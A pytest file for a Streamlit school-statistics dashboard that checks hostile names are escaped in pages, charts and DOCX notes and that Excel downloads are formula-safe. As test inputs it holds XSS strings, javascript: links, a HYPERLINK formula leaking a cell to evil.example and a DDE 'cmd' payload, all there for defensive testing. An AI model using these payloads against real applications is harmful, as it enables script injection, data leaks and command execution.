"""Hostile input from files: names and titles are shown as text on every page (no Markdown, no HTML, no
links, no Streamlit directives), in charts too; Excel downloads are formula-safe; an uploaded file's name is
text as well.

The hostile names arrive the way they would in life: a registry file loaded into (a copy of) the demo
warehouse renames an institution.
"""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from auth.identity import User
from etl.loader import InputFile, load_files
from tests.auth.conftest import OWN, TEXT_KINDS, assert_no_exception
from tests.etl.helpers import INSTITUTIONS_HEADER, write_csv
from ui.views import export, safe

ADMIN = User("admin", "admin")
MARK = "Жирная"
HOSTILE_SHORT = (
    f'=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите") **{MARK}** <img src=x onerror=alert(1)> '
    "[ссылка](javascript:alert(1)) :red[красный] www.evil.ru"
)
HOSTILE_NAME = f"Полное {MARK} _курсив_ `код` $x^2$ <b>жир</b> [ссылка](javascript:alert(1))"
# what must never reach a Markdown element unescaped
LIVE_MARKUP = [f"**{MARK}**", "<img", "[ссылка](", ":red[", "_курсив_", "`код`", "$x^2$", "<b>", "www.evil"]


def rename(db: Path, folder: Path, short_name: str) -> Path:
    """Load a registry file that renames the institution OWN (an upsert by inst_id)."""
    registry = write_csv(
        folder / "registry.csv",
        INSTITUTIONS_HEADER,
        [
            [
                OWN,
                HOSTILE_NAME,
                short_name,
                "общеобразовательная",
                "г. Бугуруслан",
                "город",
                "<script>alert(1)</script>",
            ]
        ],
    )
    result = load_files([InputFile.from_path(registry)], db)
    assert [f.status for f in result.files] == ["loaded"], result.files[0].message_ru
    return db


@pytest.fixture
def hostile_db(demo_copy: Path, tmp_path: Path) -> Path:
    return rename(demo_copy, tmp_path, HOSTILE_SHORT)


def live(text: str) -> list[str]:
    """The markup of LIVE_MARKUP left in `text` once every backslash-escaped character is taken out."""
    bare = re.sub(r"\\[!-/:-@\[-`{-~]", "", text)
    return [m for m in LIVE_MARKUP if m in bare]


def markdown_texts(at) -> list[str]:
    """The Markdown sources of every element that renders Markdown, labels and tooltips included."""
    out: list[str] = []
    for kind in TEXT_KINDS:
        for element in getattr(at, kind):
            out.append(str(element.value))
            help_text = getattr(element.proto, "help", "")
            if help_text:
                out.append(help_text)
    for kind in ("page_link", "download_button", "button", "expander", "progress"):
        for element in at.get(kind):
            proto = element.proto
            out += [
                str(getattr(proto, field, ""))
                for field in ("label", "text", "help")
                if getattr(proto, field, "")
            ]
    for metric in at.metric:
        out.append(str(metric.label))
    return out


def chart_strings(at) -> list[str]:
    found: list[str] = []

    def walk(value):
        if isinstance(value, str):
            found.append(value)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)

    for chart in at.get("plotly_chart"):
        walk(json.loads(chart.proto.spec))
    return found


@pytest.mark.parametrize(
    ("page", "params"),
    [
        # the overview of one school (its name in the caption and the cards); the city overview's «Требуют
        # внимания» names only the ten laggards by rates, which the renamed school of the demo is not: its
        # labels go through safe.md like every name (tests of md() above)
        ("pages/overview.py", {"inst": OWN}),
        ("pages/staff.py", {"inst": OWN}),
        ("pages/staff.py", {}),
        ("pages/ict.py", {}),
        ("pages/innovation.py", {"inst": OWN}),
        ("pages/compare.py", {"inst": OWN}),
        ("pages/quality.py", {}),
    ],
)
def test_hostile_names_are_shown_as_text(app, hostile_db, page, params):
    at = app(hostile_db, user=ADMIN)
    at.switch_page(page)
    at.query_params.update(params)
    at.run()
    assert_no_exception(at)
    texts = markdown_texts(at)
    strings = chart_strings(at)
    frames = [df.value for df in at.dataframe]
    seen = [t for t in texts if MARK in t] + [s for s in strings if MARK in s]
    seen += [f for f in frames if MARK in f.to_csv()]
    assert seen, "the hostile name is on the page — else this test proves nothing"
    for text in texts:
        assert not live(text), f"live markup {live(text)} in {text[:200]!r}"
    for text in strings:
        if MARK in text or "<script" in text:
            assert "<img" not in text and "<b>" not in text and "<script" not in text, text[:200]
    # tables show the name as data: exactly as the file gave it
    if page in ("pages/staff.py", "pages/ict.py") and not params:
        assert HOSTILE_SHORT in {str(v) for frame in frames for v in frame.to_numpy().ravel()}


def test_the_note_shows_hostile_names_as_text(app, demo_copy, tmp_path):
    # a short hostile name: the note's title carries it into the DOCX's core properties, limited to 255
    # characters by python-docx (a longer name stops the note: reported, reports/docx_builder.py)
    hostile_db = rename(demo_copy, tmp_path, f"**{MARK}** <img src=x onerror=alert(1)> [с](javascript:x)")
    at = app(hostile_db, user=ADMIN)
    at.switch_page("pages/note.py")
    at.run()
    at.radio(key="note_scope").set_value("institution").run()
    at.selectbox(key="note_inst").set_value(OWN).run()
    at.button[0].click().run()
    assert_no_exception(at)
    texts = markdown_texts(at)
    assert any(MARK in t for t in texts)
    assert not [t for t in texts if live(t)]


def test_an_uploaded_files_name_is_text(app, demo_copy, tmp_path):
    name = "**жир** [x](javascript:alert(1)) <img src=x onerror=alert(1)>.csv"
    at = app(demo_copy, "pages/upload.py", user=ADMIN).run()
    at.get("file_uploader")[0].set_value([(name, b"\xd0\x9a\xd0\xbe\xd0\xb4;x\nT1;1\n", "text/csv")])
    at.run()
    at.button(key="upload_go").click()
    at.run()
    assert_no_exception(at)
    texts = markdown_texts(at)
    assert any("жир" in t for t in texts), "the file's name is shown"
    bare = [re.sub(r"\\[!-/:-@\[-`{-~]", "", t) for t in texts]
    assert not [t for t in bare if "**жир**" in t or "<img" in t or "[x](" in t]


def test_md_escapes_every_kind_of_markup():
    for payload, live in [
        ("**bold**", "**"),
        ("<img src=x onerror=alert(1)>", "<"),
        ("[link](javascript:alert(1))", "["),
        ("![](http://tracker.example/p.png)", "!["),
        (":material/home: :red[x] :smile:", ":"),
        ("$\\frac{1}{2}$", "$"),
        ("# heading", "#"),
        ("- item", "-"),
        ("1. item", "1."),
        ("a | b", "|"),
        ("line\nbreak\r\n# heading", "\n"),
        ("&lt;b&gt;", "&"),
        ("mail@example.ru", "@"),
    ]:
        escaped = safe.md(payload)
        unescaped = re.sub(r"\\(.)", r"\1", escaped).replace("\u200d", "")
        assert "\n" not in escaped
        # every markup character is preceded by a backslash; removing the backslashes gives the text back
        assert unescaped == re.sub(r"[\r\n]+", " ", payload)
        if live != "\n":
            assert live not in escaped.replace("\\" + live[0], ""), (payload, escaped)


@pytest.mark.parametrize(
    "name",
    [
        "СОШ https://evil.example/short",
        "СОШ HTTP://EVIL.EXAMPLE",
        'Школа =HYPERLINK("https://evil.example/full","Нажмите")',
        "Школа www.evil.example",
        "Школа WWW.Evil.Example",
        "Школа mail@evil.example",
        "Школа mailto:mail@evil.example xmpp:x@evil.example",
    ],
)
def test_md_breaks_every_autolink(name):
    """Streamlit's Markdown (GFM) turns a bare `http(s)://…`, `www.…` or an e-mail into a live link; in
    md()'s output none of them is left whole (the browser test checks Streamlit's own renderer)."""
    escaped = safe.md(name)
    assert re.sub(r"\\(.)", r"\1", escaped).replace("\u200d", "") == name, "the text itself is kept"
    # what GFM's autolink literal looks for in the text (escapes resolved): `scheme://`, `www.`, `x@y`
    text = re.sub(r"\\(.)", r"\1", escaped)
    assert not re.search(r"(?i)[a-z]://|www\.|[-.\w+]@", text), escaped


def test_plotly_text_is_literal_but_our_line_breaks_stay():
    spec = safe.figure(
        {
            "data": [
                {
                    "type": "bar",
                    "x": ["<img src=x onerror=alert(1)>", "A & B"],
                    "y": [1, 2],
                    "name": "<b>x</b>",
                }
            ],
            "layout": {"title": {"text": "Название<br>вторая строка"}},
        }
    )
    assert spec["data"][0]["x"] == ["&lt;img src=x onerror=alert(1)>", "A &amp; B"]
    assert spec["data"][0]["name"] == "&lt;b>x&lt;/b>"
    assert spec["layout"]["title"]["text"] == "Название<br>вторая строка"
    assert spec["data"][0]["y"] == [1, 2]


# ----------------------------------------------------------------------------------------- Excel
def cells(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]


def test_excel_exports_are_formula_safe_and_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "Текст": [
                '=HYPERLINK("http://x","y")',
                "+7 912 000-00-00",
                "-1+2",
                "@SUM(A1:A2)",
                "\t=1+1",
                " =1+1",
                "обычный",
            ],
            "Число": [-5, -5.5, 0, 1, 2, 3, 4],
        }
    )
    data = export.excel_bytes(frame, title="=cmd|' /C calc'!A0", units={"Число": "ед."})
    found = cells(data)
    assert not [c for c in found if c.data_type == "f"], "no cell is a formula"
    texts = [c.value for c in found if isinstance(c.value, str)]
    assert '\'=HYPERLINK("http://x","y")' in texts and "'+7 912 000-00-00" in texts
    assert "'-1+2" in texts and "'@SUM(A1:A2)" in texts and "'\t=1+1" in texts and "' =1+1" in texts
    assert "обычный" in texts and "'=cmd|' /C calc'!A0" in texts
    numbers = [c.value for c in found if c.column == 2 and c.data_type == "n"]
    assert numbers == [-5, -5.5, 0, 1, 2, 3, 4], "real negative numbers stay numbers"


def test_excel_drops_control_characters_instead_of_failing():
    data = export.excel_bytes(pd.DataFrame({"Имя": ["Иванова\x07\x1b Мария"]}), sheet="Лист\x01[1]")
    assert [c.value for c in cells(data)][-1] == "Иванова Мария"


def test_page_downloads_of_hostile_names_are_formula_safe(app, hostile_db, monkeypatch):
    from streamlit.runtime.media_file_manager import MediaFileManager

    made = []
    original = MediaFileManager.add_deferred

    def record(self, data_callable, mimetype, coordinates, file_name=None, **kw):
        made.append((file_name, data_callable))
        return original(self, data_callable, mimetype, coordinates, file_name=file_name, **kw)

    monkeypatch.setattr(MediaFileManager, "add_deferred", record)
    at = app(hostile_db, user=ADMIN)
    at.switch_page("pages/staff.py")
    at.query_params["inst"] = OWN
    at.run()
    assert_no_exception(at)
    workbooks = [make() for name, make in made if name and name.endswith(".xlsx")]
    assert workbooks
    found = [c for data in workbooks for c in cells(data)]
    assert any(str(c.value).startswith("'=HYPERLINK") for c in found), "the hostile name reaches a download"
    assert not [c for c in found if c.data_type == "f"], "no formula in any download"
    assert not [
        c.value for c in found if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))
    ]
